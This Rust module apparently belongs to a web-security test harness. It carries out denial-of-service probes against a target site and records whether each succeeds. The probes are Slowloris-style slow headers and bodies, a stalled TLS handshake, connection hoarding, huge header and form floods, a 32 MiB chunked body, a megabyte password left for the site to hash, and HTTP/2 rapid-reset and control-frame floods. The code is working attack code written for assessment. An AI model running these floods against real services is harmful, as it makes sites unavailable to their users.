//! `resource-exhaustion`: one client takes what is there for all, by being slow, by sending too much, by opening and taking back.
//!
//! Who is slow has succeeded when the site still waits after [`HELD`]: a site that waits so long waits for ever, and a thousand such
//! clients are all that it can have. How the others fare meanwhile is another question, which needs a whole machine.

use std::fmt::Write as _;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use testkit::raw::Wire;
use tokio::time::{sleep, timeout};

use super::{Outcome, member};
use crate::{Person, Target};

/// How long a site waits that has no limit; ten seconds are enough for every honest client.
const HELD: Duration = Duration::from_secs(15);

/// The same for an answer that is not read: lines break for a while, and come back.
const UNREAD: Duration = Duration::from_secs(45);

/// How often a slow client sends a letter.
const BEAT: Duration = Duration::from_millis(500);

/// How long the answer to a whole request may take on a busy machine.
const PATIENCE: Duration = Duration::from_secs(30);

const MIB: usize = 1024 * 1024;

/// Asks with a head that comes a letter at a time and does not end.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn head_a_letter_at_a_time(target: &Target) -> Result<Outcome> {
    let first = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Slow: ", target.host());
    trickle(target.wire_speaking(&["http/1.1"]).await?, first.as_bytes()).await
}

/// Posts a form whose body comes a letter at a time, and is said to be long.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn body_a_letter_at_a_time(target: &Target) -> Result<Outcome> {
    let mut visitor = target.visitor()?;
    visitor.open("/login/").await?;
    // A form without its token is refused before its body is waited for.
    let token = visitor.cookie("csrftoken").map_or_else(String::new, |token| {
        format!("Cookie: csrftoken={token}\r\nX-CSRFToken: {token}\r\n")
    });
    let first = format!(
        "POST /login/ HTTP/1.1\r\nHost: {}\r\nOrigin: {}\r\n{token}\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n",
        target.host(),
        visitor.origin()
    );
    trickle(target.wire_speaking(&["http/1.1"]).await?, first.as_bytes()).await
}

/// Begins to shake hands, a letter at a time, and never gets to the end of it.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn handshake_never_ended(target: &Target) -> Result<Outcome> {
    // The head of a record of 512 bytes.
    trickle(target.bare_wire().await?, &[0x16, 3, 1, 2, 0, 1]).await
}

/// Asks for one page after another and reads none of them.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn answers_never_read(target: &Target) -> Result<Outcome> {
    let mut wire = target.wire_speaking(&["http/1.1"]).await?;
    let pages = format!("GET /login/ HTTP/1.1\r\nHost: {}\r\n\r\n", target.host()).repeat(50);
    // Once the site waits for its answers to be read it takes no more, and this stands still until it cuts.
    let asking = async { while wire.send(&pages).await.is_ok() {} };
    let begun = Instant::now();
    Ok(match timeout(UNREAD, asking).await {
        Ok(()) => Outcome::new(false, cut_after(begun)),
        Err(_held) => Outcome::new(true, format!("the site still waits after {UNREAD:?}")),
    })
}

/// Holds more connections than a whole office has, and is served on one more.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn places_of_everybody(target: &Target) -> Result<Outcome> {
    let mut held = Vec::new();
    for _ in 0..300 {
        held.push(target.bare_wire().await?);
    }
    let served = async {
        let mut wire = target.wire().await?;
        wire.send(request(target, "")).await?;
        wire.read_head().await
    };
    let head = served.await;
    Ok(Outcome::new(
        head.is_ok(),
        format!("with {} connections held: {head:?}", held.len()),
    ))
}

/// Sends a head of twenty thousand fields.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn head_of_thousands_of_fields(target: &Target) -> Result<Outcome> {
    let mut fields = String::new();
    for number in 0..20_000 {
        write!(fields, "X-{number}: a\r\n")?;
    }
    whole(target.wire().await?, &[request(target, &fields).as_bytes()]).await
}

/// Sends one field twenty thousand times, for the site to join what is equal again and again.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn one_field_thousands_of_times(target: &Target) -> Result<Outcome> {
    let fields = "X-Again: a\r\n".repeat(20_000);
    whole(target.wire().await?, &[request(target, &fields).as_bytes()]).await
}

/// Sends a body that does not say how long it is, and is 32 MiB.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn body_of_megabytes(target: &Target) -> Result<Outcome> {
    let mut visitor = target.visitor()?;
    visitor.open("/login/").await?;
    let token = visitor.cookie("csrftoken").map_or_else(String::new, |token| {
        format!("Cookie: csrftoken={token}\r\nX-CSRFToken: {token}\r\n")
    });
    let head = format!(
        "POST /login/ HTTP/1.1\r\nHost: {}\r\nOrigin: {}\r\n{token}Connection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n",
        target.host(),
        visitor.origin()
    );
    let chunk = |bytes: usize| {
        [
            format!("{bytes:x}\r\n").into_bytes(),
            vec![b'a'; bytes],
            b"\r\n".to_vec(),
        ]
        .concat()
    };
    let (little, much, end) = (chunk(100), chunk(MIB), b"0\r\n\r\n");
    // Of a small one it is said that name and password are missing.
    let small = whole(
        target.wire_speaking(&["http/1.1"]).await?,
        &[head.as_bytes(), &little, end],
    )
    .await?;
    ensure!(
        !["403", "400", "413", "cut"]
            .iter()
            .any(|no| small.evidence.contains(no)),
        "a small body is refused, too: {}",
        small.evidence
    );
    let mut pieces = vec![head.as_bytes()];
    pieces.resize(33, &much);
    pieces.push(end);
    let large = whole(target.wire_speaking(&["http/1.1"]).await?, &pieces).await?;
    let is_refused = ["400", "413", "cut"].iter().any(|no| large.evidence.contains(no));
    Ok(Outcome::new(!is_refused, large.evidence))
}

/// Posts a form of 1,001 fields.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn form_of_a_thousand_and_one_fields(target: &Target) -> Result<Outcome> {
    let person = Person::VICTIM;
    member::join(target, person).await?;
    let names: Vec<String> = (0..999).map(|number| format!("f{number}")).collect();
    let mut fields = vec![("username", person.username), ("password", person.password)];
    fields.extend(names.iter().map(|name| (name.as_str(), "a")));
    let few = fields.get(..12).unwrap_or_default();
    let logged_in = target.visitor()?.submit("/login/", few).await?.status;
    ensure!(
        logged_in.is_redirection(),
        "a form of a few fields is answered with {logged_in}"
    );
    // The token is the thousand and first, where there is one; where there is none, an empty one is sent.
    let reply = target.visitor()?.submit("/login/", &fields).await?;
    Ok(Outcome::new(
        reply.status.is_redirection(),
        format!("answered with {}", reply.status),
    ))
}

/// Signs up with a password of a megabyte, and lets the site hash it.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn password_of_a_megabyte(target: &Target) -> Result<Outcome> {
    let Person { username, .. } = Person::ATTACKER;
    // Twice in a form, it is still smaller than a form may be.
    let password = "CorrectHorseBattery7".repeat(MIB / 20);
    let mut visitor = target.visitor()?;
    let fields = [
        ("username", username),
        ("email", ""),
        ("password1", password.as_str()),
        ("password2", password.as_str()),
    ];
    // A site that refuses a body of this size while it comes may close before all of it was sent.
    let signed_up = visitor
        .submit("/signup/", &fields)
        .await
        .map(|reply| reply.status);
    if visitor.cookie("sessionid").is_none() {
        let fields = [("username", username), ("password", password.as_str())];
        let _refused = visitor.submit("/login/", &fields).await;
    }
    Ok(Outcome::new(
        visitor.cookie("sessionid").is_some(),
        format!("the sign-up was answered with {signed_up:?}"),
    ))
}

/// Opens requests over HTTP/2 and takes them back at once, a thousand of them, and is served after that.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn requests_taken_back(target: &Target) -> Result<Outcome> {
    let mut http2 = Http2::open(target).await?;
    let head = head(target.host());
    for number in 0..1_000 {
        let stream = number * 2 + 1;
        let opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head);
        let taken_back = frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        // An answered ping says that the server has begun it: who opens all at once is noticed by every server.
        let ping = frame(PING, 0, 0, &[0; 8]);
        let sent = http2.wire.send([opened, taken_back, ping].concat()).await;
        if sent.is_err() || http2.hear(PING, 0).await.is_err() {
            return Ok(Outcome::new(false, format!("cut after {number}")));
        }
    }
    http2.serves(2_001, &head).await
}

/// Sends frames over HTTP/2 that cost an answer or some work and bring nothing, twenty thousand of each, and is served after that.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn frames_that_bring_nothing(target: &Target) -> Result<Outcome> {
    let kinds = [
        ("pings", frame(PING, 0, 0, &[0; 8])),
        ("settings", frame(SETTINGS, 0, 0, &[])),
        ("windows", frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        ("priorities", frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
    ];
    let (mut served, mut evidence) = (false, Vec::new());
    for (name, one) in kinds {
        let mut http2 = Http2::open(target).await?;
        let many = one.repeat(500);
        let flood = async {
            for _ in 0..40 {
                http2.wire.send(&many).await?;
            }
            anyhow::Ok(())
        };
        let outcome = match timeout(PATIENCE, flood).await {
            Ok(Ok(())) => http2.serves(1, &head(target.host())).await?,
            cut => Outcome::new(false, format!("{cut:?}")),
        };
        served |= outcome.succeeded;
        evidence.push(format!("{name}: {}", outcome.evidence));
    }
    Ok(Outcome::new(served, evidence.join("; ")))
}

fn request(target: &Target, fields: &str) -> String {
    format!(
        "GET /login/ HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{fields}\r\n",
        target.host()
    )
}

/// Sends a letter now and then for as long as the site waits for more.
async fn trickle(mut wire: Wire, first: &[u8]) -> Result<Outcome> {
    wire.send(first).await?;
    let begun = Instant::now();
    while begun.elapsed() < HELD {
        sleep(BEAT).await;
        if wire.send(b"a").await.is_err() {
            return Ok(Outcome::new(false, cut_after(begun)));
        }
    }
    Ok(Outcome::new(true, format!("the site still waits after {HELD:?}")))
}

fn cut_after(begun: Instant) -> String {
    format!("cut after {:.0} s", begun.elapsed().as_secs_f64())
}

/// Sends all of a request, and says whether the site took all of it and answered as if nothing were wrong with its size.
async fn whole(mut wire: Wire, pieces: &[&[u8]]) -> Result<Outcome> {
    for (number, piece) in pieces.iter().enumerate() {
        if wire.send(piece).await.is_err() {
            return Ok(Outcome::new(false, format!("cut in piece {number}")));
        }
    }
    let Ok(head) = wire.read_head().await else {
        return Ok(Outcome::new(false, "cut without an answer"));
    };
    let status = head.lines().next().unwrap_or_default().to_owned();
    Ok(Outcome::new(!status.contains(" 4"), status))
}

const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A connection on which frames are sent that no library would send.
struct Http2 {
    wire: Wire,
    /// What was read and not looked at.
    read: Vec<u8>,
}

impl Http2 {
    async fn open(target: &Target) -> Result<Http2> {
        let mut wire = target.wire_speaking(&["h2", "http/1.1"]).await?;
        wire.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        wire.send(frame(SETTINGS, 0, 0, &[])).await?;
        Ok(Http2 {
            wire,
            read: Vec::new(),
        })
    }

    /// Asks for a page on this stream, and waits for the head of the answer or the end of the connection.
    async fn serves(mut self, stream: u32, head: &[u8]) -> Result<Outcome> {
        let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, head);
        if self.wire.send(request).await.is_err() {
            return Ok(Outcome::new(false, "cut after the flood"));
        }
        let answered = timeout(PATIENCE, self.hear(HEADERS, stream))
            .await
            .context("the site neither answers nor cuts")?;
        Ok(match answered {
            Ok(()) => Outcome::new(true, "served after it"),
            Err(error) => Outcome::new(false, format!("cut: {error:#}")),
        })
    }

    /// Reads frames until one is of this kind, on this stream.
    async fn hear(&mut self, kind: u8, stream: u32) -> Result<()> {
        loop {
            while let Some(([high, middle, low, heard, _, id @ ..], rest)) =
                self.read.split_first_chunk::<9>()
            {
                let length = u32::from_be_bytes([0, *high, *middle, *low]) as usize;
                let is_it = *heard == kind && u32::from_be_bytes(*id) == stream;
                let Some(after) = rest.get(length..) else { break };
                self.read = after.to_vec();
                if is_it {
                    return Ok(());
                }
            }
            let said = self.wire.read_some().await?;
            ensure!(!said.is_empty(), "the connection is closed");
            self.read.extend(said);
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, high, middle, low] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![high, middle, low, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A request as literals of HPACK.
fn head(host: &str) -> Vec<u8> {
    let fields = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", host),
        (":path", "/login/"),
    ];
    let mut bytes = Vec::new();
    for (name, value) in fields {
        bytes.push(0);
        for text in [name, value] {
            bytes.push(u8::try_from(text.len()).unwrap_or_default());
            bytes.extend(text.as_bytes());
        }
    }
    bytes
}
